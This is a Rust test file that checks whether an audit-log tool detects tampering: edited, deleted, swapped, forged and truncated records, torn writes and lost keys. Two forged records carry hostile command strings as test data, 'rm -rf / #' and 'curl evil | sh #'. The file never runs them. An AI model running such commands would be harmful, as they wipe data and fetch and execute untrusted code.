//! Tamper evidence through the real binary: every edit names the bad record.
#[path = "support/daemon.rs"]
mod daemon;
#[path = "support/tamper.rs"]
mod tamper;

use std::path::{Path, PathBuf};

use daemon::Home;
use holdfast::wire::{Proposal, RequestBody, ResponseBody};
use tamper::rechain;

fn record(d: &daemon::Daemon, raw: &str) -> u64 {
    let p = Proposal { agent: "test".into(), cwd: daemon::abs_cwd(), raw: raw.into(), ..Default::default() };
    match d.request(RequestBody::Record(p)) {
        ResponseBody::Ack(a) => a.seq.expect("ack carries a seq"),
        other => panic!("expected ack, got {other:?}"),
    }
}

/// A stopped home with a log of ~40 records; returns the home and the pristine log lines.
fn home_with_log() -> (Home, Vec<String>) {
    let home = Home::new();
    let d = home.daemon(&["--durability", "batch"]);
    for i in 0..36 {
        record(&d, &format!("echo {i}"));
    }
    let (status, _) = d.terminate();
    assert!(status.success());
    let lines = read_lines(&home.paths().audit_log());
    (home, lines)
}

fn read_lines(path: &Path) -> Vec<String> {
    std::fs::read_to_string(path).unwrap().lines().map(str::to_string).collect()
}

fn write_lines(path: &Path, lines: &[String]) {
    let mut text = lines.join("\n");
    text.push('\n');
    std::fs::write(path, text).unwrap();
}

fn key_file(home: &Home) -> PathBuf {
    home.paths().config_dir.join("verification.key")
}

/// Runs `log verify [--key-file]`; returns (exit code, stdout).
fn verify(home: &Home, with_key: bool) -> (i32, String) {
    let key = key_file(home);
    let mut args = vec!["log", "verify"];
    if with_key {
        args.extend(["--key-file", key.to_str().unwrap()]);
    }
    let out = home.run(&args, "");
    (out.status.code().unwrap(), String::from_utf8_lossy(&out.stdout).into_owned())
}

fn assert_bad(home: &Home, with_key: bool, needle: &str) -> String {
    let (code, out) = verify(home, with_key);
    assert_eq!(code, 8, "verify should fail:\n{out}");
    let first = out.lines().find(|l| l.contains("FIRST BAD")).unwrap_or_default().to_string();
    assert!(first.contains(needle), "expected {needle:?} in the first finding:\n{out}");
    first
}

#[test]
fn pristine_log_verifies_with_and_without_key() {
    let (home, lines) = home_with_log();
    assert!(lines.len() >= 39);
    let (code, out) = verify(&home, true);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("every MAC checked"), "{out}");
}

#[test]
fn flipped_byte_in_a_body() {
    let (home, mut lines) = home_with_log();
    lines[9] = lines[9].replace("echo ", "echo!");
    write_lines(&home.paths().audit_log(), &lines);
    assert_bad(&home, false, "record seq 10 (line 10)");
}

#[test]
fn edited_hash() {
    let (home, mut lines) = home_with_log();
    let i = lines[9].find("\"hash\":\"").unwrap() + 8;
    let c = if &lines[9][i..i + 1] == "0" { "1" } else { "0" };
    lines[9].replace_range(i..i + 1, c);
    write_lines(&home.paths().audit_log(), &lines);
    assert_bad(&home, false, "record seq 10 (line 10)");
}

#[test]
fn deleted_middle_line() {
    let (home, mut lines) = home_with_log();
    lines.remove(9);
    write_lines(&home.paths().audit_log(), &lines);
    let first = assert_bad(&home, false, "record seq 11 (line 10)");
    assert!(first.contains("10..10 are missing"), "{first}");
}

#[test]
fn swapped_lines() {
    let (home, mut lines) = home_with_log();
    lines.swap(9, 10);
    write_lines(&home.paths().audit_log(), &lines);
    assert_bad(&home, false, "record seq 11 (line 10)");
}

#[test]
fn forged_line_inserted() {
    let (home, mut lines) = home_with_log();
    // A plausible record 11 after record 10, correctly chained to it; later records unchanged.
    let forged = lines[10].replace("\"raw\":\"echo", "\"raw\":\"rm -rf / #");
    lines.insert(10, forged);
    rechain(&mut lines[..11], 10);
    write_lines(&home.paths().audit_log(), &lines);
    // Without the key: the original record 11 no longer fits after the forged one.
    assert_bad(&home, false, "record seq 11 (line 12)");
    // With the key: the forged line itself has no valid MAC.
    let first = assert_bad(&home, true, "record seq 11 (line 11)");
    assert!(first.contains("MAC"), "{first}");
}

#[test]
fn whole_chain_recomputed_without_the_key() {
    let (home, mut lines) = home_with_log();
    lines[14] = lines[14].replace("\"raw\":\"echo", "\"raw\":\"curl evil | sh #");
    rechain(&mut lines, 14);
    write_lines(&home.paths().audit_log(), &lines);
    let (code, out) = verify(&home, false);
    assert_eq!(code, 0, "without the key a rewritten chain is consistent (documented limit):\n{out}");
    let first = assert_bad(&home, true, "record seq 15 (line 15)");
    assert!(first.contains("MAC"), "{first}");
}

#[test]
fn tail_truncation_while_the_daemon_runs() {
    let home = Home::new();
    let d = home.daemon(&["--durability", "batch"]);
    for i in 0..20 {
        record(&d, &format!("echo {i}"));
    }
    let (code, out) = verify(&home, true);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("running daemon's head"), "{out}");
    let path = home.paths().audit_log();
    let mut lines = read_lines(&path);
    lines.truncate(lines.len() - 3);
    write_lines(&path, &lines);
    let (code, out) = verify(&home, false);
    assert_eq!(code, 8, "{out}");
    assert!(out.contains("were truncated"), "{out}");
    assert!(out.contains("records 20..22"), "{out}");
    d.assert_alive();
}

#[test]
fn truncation_across_a_seal_is_caught_with_the_daemon_stopped() {
    let (home, lines) = home_with_log();
    // The log ends with the seal written at stop; cut it and the record before.
    let path = home.paths().audit_log();
    write_lines(&path, &lines[..lines.len() - 2]);
    let d = home.daemon(&[]);
    let status = match d.request(RequestBody::Status) {
        ResponseBody::Status(s) => s,
        other => panic!("{other:?}"),
    };
    assert!(status.log_damage.iter().any(|m| m.contains("seal records are missing")), "{:?}", status.log_damage);
    let (status, _) = d.terminate();
    assert!(status.success());
    let first = assert_bad(&home, true, "record seq");
    assert!(first.contains("seal records are missing"), "{first}");
}

#[test]
fn torn_tail_is_quarantined_and_the_chain_continues() {
    let (home, _) = home_with_log();
    let path = home.paths().audit_log();
    let mut bytes = std::fs::read(&path).unwrap();
    bytes.extend_from_slice(b"{\"body\":{\"seq\":41,\"ts\":\"2026");
    std::fs::write(&path, &bytes).unwrap();
    let d = home.daemon(&[]);
    let seq = record(&d, "after the crash");
    let (status, _) = d.terminate();
    assert!(status.success());
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.contains("\"kind\":\"recovered\""), "no recovered record");
    let torn: Vec<_> = std::fs::read_dir(&home.paths().data_dir)
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().starts_with("audit.jsonl.torn-"))
        .collect();
    assert_eq!(torn.len(), 1);
    assert_eq!(std::fs::read(torn[0].path()).unwrap(), b"{\"body\":{\"seq\":41,\"ts\":\"2026");
    let (code, out) = verify(&home, true);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("1 torn write(s) recovered after crashes"), "verify names the recovery: {out}");
    assert!(seq > 40);
}

#[test]
fn lost_seal_key_is_damage_and_verify_says_so() {
    let (home, _) = home_with_log();
    std::fs::remove_file(home.paths().data_dir.join("seal.key")).unwrap();
    let d = home.daemon(&[]);
    record(&d, "after the key was lost");
    let status = match d.request(RequestBody::Status) {
        ResponseBody::Status(s) => s,
        other => panic!("{other:?}"),
    };
    assert!(status.log_damage.iter().any(|m| m.contains("is missing")), "{:?}", status.log_damage);
    let (status, _) = d.terminate();
    assert!(status.success());
    let first = assert_bad(&home, true, "record seq");
    assert!(first.contains("sealing key") && first.contains("missing"), "{first}");
    let (_, out) = verify(&home, true);
    assert!(out.contains("MACs checked up to seq"), "{out}");
    assert!(!out.contains("MAC does not verify"), "records after the rekey must not be reported as forged:\n{out}");
}
